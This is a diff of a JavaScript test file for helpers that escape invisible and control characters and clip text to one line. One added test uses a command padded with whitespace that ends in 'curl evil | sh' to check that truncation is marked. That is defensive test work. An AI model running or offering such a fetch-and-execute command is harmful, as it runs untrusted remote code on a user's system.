@@ -7,6 +7,8 @@ describe("visible", () => {
     ["a carriage return", "a\rb", "a\\u000db"],
     ["a C1 control character", "\u009b2J", "\\u009b2J"],
     ["a turned reading direction", "a\u202eb", "a\\u202eb"],
+    ["a zero-width space and a byte order mark", "a\u200bb\ufeffc", "a\\u200bb\\ufeffc"],
+    ["a line separator", "a\u2028b", "a\\u2028b"],
     ["line feeds, tabs and emoji", "a\n\tb 👩‍👩‍👧 é", "a\n\tb 👩‍👩‍👧 é"],
   ])("shows %s without obeying it", (_, text, shown) => {
     expect(visible(text)).toBe(shown);
@@ -17,6 +19,10 @@ describe("oneLine", () => {
   it("joins lines and clips by characters, not by halves of them", () => {
     expect(oneLine("a\n  b\n", 10)).toBe("a b");
     expect(oneLine("🙂🙂🙂🙂", 3)).toBe("🙂🙂…");
+  });
+
+  it("shows that it was cut, also where only white space was left out", () => {
+    expect(oneLine(`rm a${" ".repeat(900)}; curl evil | sh`, 40)).toBe("rm a…");
   });
 });
 
